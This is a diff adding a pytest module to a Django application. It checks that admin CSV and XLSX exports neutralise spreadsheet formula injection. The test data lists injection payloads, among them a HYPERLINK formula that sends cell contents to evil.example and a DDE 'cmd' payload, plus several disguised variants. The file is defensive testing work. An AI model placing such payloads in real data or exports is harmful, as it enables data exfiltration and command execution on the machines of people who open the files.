@@ -1,0 +1,102 @@
+"""Formulas as names: no cell of any file that staff take along does anything in a spreadsheet."""
+
+import csv
+import io
+import re
+
+import pytest
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from learning.activities import enrolling
+from learning.activities.choices import Source
+from learning.activities.models import Activity, Consent, Enrolment
+from learning.people import auditing
+from learning.people.models import Organisation, Person
+from learning.spreadsheets import FORMULAS
+from tests.permissions.fillings import address_of
+from tests.permissions.whole_table import TABLE
+
+pytestmark = pytest.mark.django_db
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Ana")'
+DISGUISES = [
+    FORMULA,
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1+1",
+    "＝1+1",
+    "Ana;=1+1",
+    "Ana\t@SUM(1)",
+    "Ana|-2+3",
+]
+ENDS_OF_CELLS = re.compile(r"[;|\t\r\n]")
+
+
+@pytest.fixture(scope="module")
+def files(world):
+    """Every address of ours in the admin that gives a table, with the file's formats."""
+    client, found = world.clients["superuser"], []
+    for route in TABLE:
+        if route.startswith("admin/") and "<str" not in route:
+            address = address_of(world, route)
+            address += "&" if "?" in address else "?"
+            response = client.get(f"{address}export=csv")
+            if "attachment" in response.headers.get("Content-Disposition", "") and cells(response):
+                found.append(address)
+    return found
+
+
+def content(response):
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
+def cells(response):
+    return [cell for row in csv.reader(io.StringIO(content(response).decode("utf-8-sig"))) for cell in row]
+
+
+def dress(world, formula):
+    """Everything that people and officers can write is a formula, past every form."""
+    Person.objects.update(name=formula, job_title=formula)
+    Person.objects.filter(pk=world.person.pk).update(external_id=formula)
+    Organisation.objects.update(name=formula, place=formula)
+    Organisation.objects.filter(pk=world.organisation.pk).update(external_id=formula)
+    Activity.objects.update(title=formula, place=formula)
+    Consent.objects.create(person=world.person, purpose="newsletter", given_at=timezone.now())
+    Enrolment.objects.filter(pk=world.enrolment.pk).update(country="CO")
+    auditing.record(auditing.Action.MERGED, world.accounts["officer"], world.person, reason=formula, filters=[formula])
+
+
+def test_the_files_are_these(world, files):
+    names = {address.partition("?")[0] for address in files}
+    assert {name for name in names if not name.endswith("/results/")} == {
+        "/admin/organisations/",
+        "/admin/persons/",
+        "/admin/activities/",
+        f"/admin/activities/{world.activity.pk}/participants/",
+        "/admin/figures/",
+        "/admin/figures/people/",
+        "/admin/reports/audit-log/",
+        "/admin/reports/consents/",
+    }
+
+
+@pytest.mark.parametrize("formula", DISGUISES)
+def test_no_cell_is_a_formula(world, files, formula):
+    dress(world, formula)
+    client, seen = world.clients["superuser"], 0
+    for address in files:
+        for cell in cells(client.get(f"{address}export=csv")):
+            seen += formula.strip()[-3:] in cell
+            assert [part for part in ENDS_OF_CELLS.split(cell) if part.lstrip(" ").startswith(FORMULAS)] == [], address
+        book = load_workbook(io.BytesIO(content(client.get(f"{address}export=xlsx"))))
+        assert [cell.coordinate for row in book.active.iter_rows() for cell in row if cell.data_type == "f"] == []
+    assert seen > 5
+
+
+def test_what_people_write_about_themselves_comes_out_as_text(as_officer, official):
+    """From the form to the file."""
+    official.person.name = FORMULA
+    official.person.save()
+    enrolling.enrol(Activity.objects.create(title="Care", kind="webinar"), official.person, source=Source.OFFICER)
+    assert f"'{FORMULA}" in cells(as_officer.get("/admin/persons/?export=csv"))
